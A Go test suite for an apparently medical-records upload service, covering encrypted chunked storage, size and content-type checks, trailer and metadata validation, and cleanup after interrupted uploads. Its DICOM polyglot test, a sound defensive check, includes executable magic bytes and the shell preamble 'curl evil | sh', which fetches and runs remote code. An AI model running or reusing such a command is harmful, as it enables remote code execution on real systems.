package records

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"strings"
	"testing"
	"time"

	"connectrpc.com/connect"

	blobsv1 "healthcore/gen/healthcore/blobs/v1"
	recordsv1 "healthcore/gen/healthcore/records/v1"
	"healthcore/platform/errs"
	"healthcore/platform/server"
	"healthcore/platform/testkit"
)

func TestUpload_RoundTripGivesBackTheSameBytesWithSizeAndDigest(t *testing.T) {
	f := newFixture(t)
	alice := f.newPatient()
	cases := []struct {
		name, contentType string
		data              []byte
	}{
		{"small pdf", "application/pdf", pdf(10_000)},
		{"png", "image/png", png(150_000)},
		{"jpeg", "image/jpeg", jpeg(70_000)},
		{"dicom", "application/dicom", dicom(5_000)},
		{"pdf of exactly one cipher chunk", "application/pdf", pdf(chunkSize)},
		{"pdf of exactly two cipher chunks", "application/pdf", pdf(2 * chunkSize)},
		{"3 MiB pdf crossing many chunks", "application/pdf", pdf(3<<20 + 12345)},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			md := meta(c.name, c.contentType)
			md.ExamDate = "2024-03-15"
			up := f.mustUpload(alice, md, c.data)
			sum := sha256.Sum256(c.data)
			if up.GetSizeBytes() != int64(len(c.data)) || up.GetSha256() != hex.EncodeToString(sum[:]) ||
				up.GetContentType() != c.contentType || up.GetPatientId() != alice.id || up.GetExamDate() != "2024-03-15" {
				t.Fatalf("uploaded = %v, want %d bytes, sha256 %x, %s", up, len(c.data), sum, c.contentType)
			}
			doc, got, err := f.download(alice, up.GetId())
			if err != nil {
				t.Fatalf("download: %v", err)
			}
			if !bytes.Equal(got, c.data) {
				t.Fatalf("downloaded %d bytes differing from the %d uploaded", len(got), len(c.data))
			}
			if doc.GetId() != up.GetId() || doc.GetSizeBytes() != up.GetSizeBytes() || doc.GetSha256() != up.GetSha256() {
				t.Errorf("download metadata = %v, want %v", doc, up)
			}
		})
	}
}

func TestUpload_SmallClientChunksAreReassembledInOrder(t *testing.T) {
	f := newFixture(t)
	alice := f.newPatient()
	data := png(300_000)
	up, err := f.uploadMsgs(context.Background(), alice, messages(meta("scan", "image/png"), data, 777)...)
	if err != nil {
		t.Fatal(err)
	}
	if _, got, err := f.download(alice, up.GetId()); err != nil || !bytes.Equal(got, data) {
		t.Fatalf("download: %v, equal=%v", err, bytes.Equal(got, data))
	}
}

func TestUpload_StoredObjectIsCiphertextUnderARandomKey(t *testing.T) {
	f := newFixture(t)
	alice := f.newPatient()
	data := pdf(200_000)
	up := f.mustUpload(alice, meta("Hemograma de "+alice.id, "application/pdf"), data)
	key := f.blobKey(up.GetId())
	if !strings.HasPrefix(key, "records/") || strings.Contains(key, alice.id) || strings.Contains(key, up.GetId()) {
		t.Errorf("blob key %q must be records/<random uuid>, naming neither patient nor document", key)
	}
	obj := f.object(key)
	if int64(len(obj)) != sealedSize(int64(len(data))) {
		t.Errorf("object has %d bytes, want %d", len(obj), sealedSize(int64(len(data))))
	}
	if bytes.Contains(obj, []byte(marker)) || bytes.Contains(obj, []byte("%PDF")) {
		t.Error("the stored object contains plaintext")
	}
	if !bytes.Contains(data, []byte(marker)) {
		t.Fatal("test data lacks the marker")
	}
	var dataKey, prefix []byte
	if err := f.db.QueryRow(context.Background(), `SELECT data_key, nonce_prefix FROM documents WHERE id = $1`, up.GetId()).Scan(&dataKey, &prefix); err != nil {
		t.Fatal(err)
	}
	if len(dataKey) < 32 || len(prefix) != prefixSize {
		t.Errorf("data key %d bytes, nonce prefix %d bytes", len(dataKey), len(prefix))
	}
}

func TestUpload_EachDocumentGetsAFreshDataKey(t *testing.T) {
	f := newFixture(t)
	alice := f.newPatient()
	a := f.mustUpload(alice, meta("a", "application/pdf"), pdf(1000))
	b := f.mustUpload(alice, meta("b", "application/pdf"), pdf(1000))
	if n := f.count(`SELECT count(DISTINCT data_key) FROM documents WHERE id IN ($1, $2)`, a.GetId(), b.GetId()); n != 2 {
		t.Errorf("distinct data keys = %d, want 2", n)
	}
}

func TestUpload_SizeLimitAcceptsExactlyTheLimitAndRefusesOneMoreLeavingNothing(t *testing.T) {
	cfg := DefaultConfig()
	cfg.MaxUploadBytes = 200_000
	f := newFixtureWith(t, cfg)
	alice := f.newPatient()

	exact := pdf(200_000)
	up := f.mustUpload(alice, meta("exact", "application/pdf"), exact)
	if up.GetSizeBytes() != 200_000 {
		t.Fatalf("size = %d", up.GetSizeBytes())
	}
	f.wantStored(1, 1)

	_, err := f.upload(alice, meta("too big", "application/pdf"), pdf(200_001))
	testkit.WantReason(t, err, ReasonDocumentTooLarge)
	f.wantStored(1, 1) // only the first document
	if _, err := f.blobs.Head(context.Background(), connect.NewRequest(&blobsv1.HeadRequest{Key: f.blobKey(up.GetId())})); err != nil {
		t.Errorf("the accepted document's object: %v", err)
	}
}

func TestUpload_EmptyDocumentIsRefused(t *testing.T) {
	f := newFixture(t)
	_, err := f.upload(f.newPatient(), meta("empty", "application/pdf"), nil)
	testkit.WantReason(t, err, ReasonDocumentEmpty)
	f.wantStored(0, 0)
}

func TestUpload_ContentTypeIsCheckedByTheBytes(t *testing.T) {
	f := newFixture(t)
	alice := f.newPatient()
	exe := append([]byte("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff"), make([]byte, 5000)...)
	cases := []struct {
		name, declared string
		data           []byte
		reason         errs.Reason
	}{
		{"text declared as pdf", "application/pdf", []byte(strings.Repeat("resultado normal\n", 500)), ReasonContentTypeMismatch},
		{"executable declared as pdf", "application/pdf", exe, ReasonContentTypeMismatch},
		{"png declared as jpeg", "image/jpeg", png(100_000), ReasonContentTypeMismatch},
		{"pdf past the first cipher chunk declared as png", "image/png", pdf(3 * chunkSize), ReasonContentTypeMismatch},
		{"type not accepted", "application/zip", body("PK\x03\x04", 1000), ReasonContentTypeNotAllowed},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			_, err := f.upload(alice, meta(c.name, c.declared), c.data)
			testkit.WantReason(t, err, c.reason)
			if v := violationFields(t, err); v != "metadata.content_type" {
				t.Errorf("violations name %q, want metadata.content_type", v)
			}
			f.wantStored(0, 0)
		})
	}
}

// A DICOM file's 128-byte preamble is free for applications, so a file can be both a
// valid DICOM image and a program (CVE-2019-11687): such a file is refused, and a
// preamble of zeros or of text (as some scanners write) is not.
func TestUpload_DICOMWithAnExecutablePreambleIsRefused(t *testing.T) {
	f := newFixture(t)
	alice := f.newPatient()
	polyglot := func(preamble string) []byte {
		return body(preamble+string(make([]byte, 128-len(preamble)))+"DICM", 5000)
	}
	cases := []struct{ name, preamble string }{
		{"Windows PE", "MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff"},
		{"ELF", "\x7fELF\x02\x01\x01"},
		{"Mach-O 32-bit", "\xfe\xed\xfa\xce"},
		{"Mach-O 64-bit", "\xfe\xed\xfa\xcf"},
		{"Mach-O 32-bit little-endian", "\xce\xfa\xed\xfe"},
		{"Mach-O 64-bit little-endian", "\xcf\xfa\xed\xfe"},
		{"Mach-O universal", "\xca\xfe\xba\xbe"},
		{"script", "#!/bin/sh\ncurl evil | sh\n"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			_, err := f.upload(alice, meta(c.name, "application/dicom"), polyglot(c.preamble))
			testkit.WantReason(t, err, ReasonExecutableContent)
			if v := violationFields(t, err); v != "chunk" {
				t.Errorf("violations name %q, want chunk", v)
			}
			f.wantStored(0, 0)
		})
	}
	for _, ok := range []string{"", "SCANNER XYZ 1.0 ", "MRI"} {
		if _, err := f.upload(alice, meta("preamble "+ok, "application/dicom"), polyglot(ok)); err != nil {
			t.Errorf("preamble %q: %v", ok, err)
		}
	}
}

func TestUpload_DeclaredTypeIsNormalised(t *testing.T) {
	f := newFixture(t)
	up := f.mustUpload(f.newPatient(), meta("scan", "Application/PDF; charset=binary"), pdf(1000))
	if up.GetContentType() != "application/pdf" {
		t.Errorf("content type = %q", up.GetContentType())
	}
}

func TestUpload_MissingOrWrongTrailerStoresNothing(t *testing.T) {
	f := newFixture(t)
	alice := f.newPatient()
	data := pdf(200_000)
	full := messages(meta("x", "application/pdf"), data, 50_000)
	wrongSum := messages(meta("x", "application/pdf"), data, 50_000)
	wrongSum[len(wrongSum)-1].GetTrailer().Sha256 = strings.Repeat("0", 64)
	wrongSize := messages(meta("x", "application/pdf"), data, 50_000)
	wrongSize[len(wrongSize)-1].GetTrailer().Size++
	lost := append(append([]*recordsv1.UploadDocumentRequest{}, full[:2]...), full[3:]...) // a chunk lost on the way
	cases := []struct {
		name   string
		msgs   []*recordsv1.UploadDocumentRequest
		reason errs.Reason
	}{
		{"no trailer", full[:len(full)-1], ReasonTrailerRequired},
		{"wrong digest", wrongSum, ReasonTrailerMismatch},
		{"wrong size", wrongSize, ReasonTrailerMismatch},
		{"lost chunk", lost, ReasonTrailerMismatch},
		{"chunk after trailer", append(append([]*recordsv1.UploadDocumentRequest{}, full...), chunkMsg([]byte("x"))), ReasonTrailerNotLast},
		{"no metadata", full[1:], ReasonMetadataRequired},
		{"metadata twice", append([]*recordsv1.UploadDocumentRequest{full[0]}, full...), ReasonMetadataRepeated},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			_, err := f.uploadMsgs(context.Background(), alice, c.msgs...)
			testkit.WantReason(t, err, c.reason)
			f.wantStored(0, 0)
		})
	}
}

func TestUpload_MetadataIsValidated(t *testing.T) {
	f := newFixture(t)
	alice := f.newPatient()
	tomorrow := time.Now().UTC().AddDate(0, 0, 2).Format(time.DateOnly)
	cases := []struct {
		name   string
		edit   func(*recordsv1.UploadMetadata)
		reason errs.Reason
	}{
		{"unspecified kind", func(m *recordsv1.UploadMetadata) { m.Kind = 0 }, server.ReasonValidationFailed},
		{"empty title", func(m *recordsv1.UploadMetadata) { m.Title = "" }, server.ReasonValidationFailed},
		// Blank like empty: the validation interceptor refuses blank names and titles everywhere.
		{"blank title", func(m *recordsv1.UploadMetadata) { m.Title = "   " }, server.ReasonValidationFailed},
		{"exam date in the future", func(m *recordsv1.UploadMetadata) { m.ExamDate = tomorrow }, ReasonExamDateInFuture},
		{"impossible exam date", func(m *recordsv1.UploadMetadata) { m.ExamDate = "2024-02-30" }, ReasonExamDateInvalid},
		{"someone else's group", func(m *recordsv1.UploadMetadata) { m.GroupId = "6f1f3c1e-9a51-4d8e-8a43-0a3c1d1e2f30" }, ReasonGroupNotFound},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			md := meta("exame", "application/pdf")
			c.edit(md)
			_, err := f.upload(alice, md, pdf(1000))
			testkit.WantReason(t, err, c.reason)
			f.wantStored(0, 0)
		})
	}
}

func TestUpload_InterruptedStreamLeavesNoRowAndNoObject(t *testing.T) {
	f := newFixture(t)
	alice := f.newPatient()
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	stream := f.client.UploadDocument(ctx)
	setHeaders(stream.RequestHeader(), alice.token)
	data := pdf(1 << 20)
	for _, m := range messages(meta("cut", "application/pdf"), data, 256<<10)[:4] { // metadata + 3 chunks, no end
		if err := stream.Send(m); err != nil {
			t.Fatal(err)
		}
	}
	// The object is being written (blobs holds a temporary file) when the client goes.
	f.waitFor("the object upload to start", func() bool { return len(f.blobFiles()) > 0 })
	cancel()
	if _, err := stream.CloseAndReceive(); connect.CodeOf(err) != connect.CodeCanceled {
		t.Fatalf("client got %v, want CANCELED", err)
	}
	// The service writes the failed upload's log entry after blobs has cleaned up. The
	// server sees the cut as a reset (CANCELED) or, when the client's end of stream
	// wins the race with its reset, as an upload without its trailer.
	f.waitFor("the failed upload to be logged", func() bool {
		return f.count(`SELECT count(*) FROM access_log WHERE action = 'document.upload'`) == 1
	})
	var outcome, reason string
	if err := f.db.QueryRow(context.Background(), `SELECT outcome, reason FROM access_log WHERE action = 'document.upload'`).Scan(&outcome, &reason); err != nil {
		t.Fatal(err)
	}
	if !(outcome == outcomeFailed && reason == strings.ToUpper(connect.CodeCanceled.String())) && !(outcome == outcomeInvalid && reason == ReasonTrailerRequired.Name()) {
		t.Errorf("logged %s %s, want failed CANCELED or invalid TRAILER_REQUIRED", outcome, reason)
	}
	f.wantStored(0, 0)
}
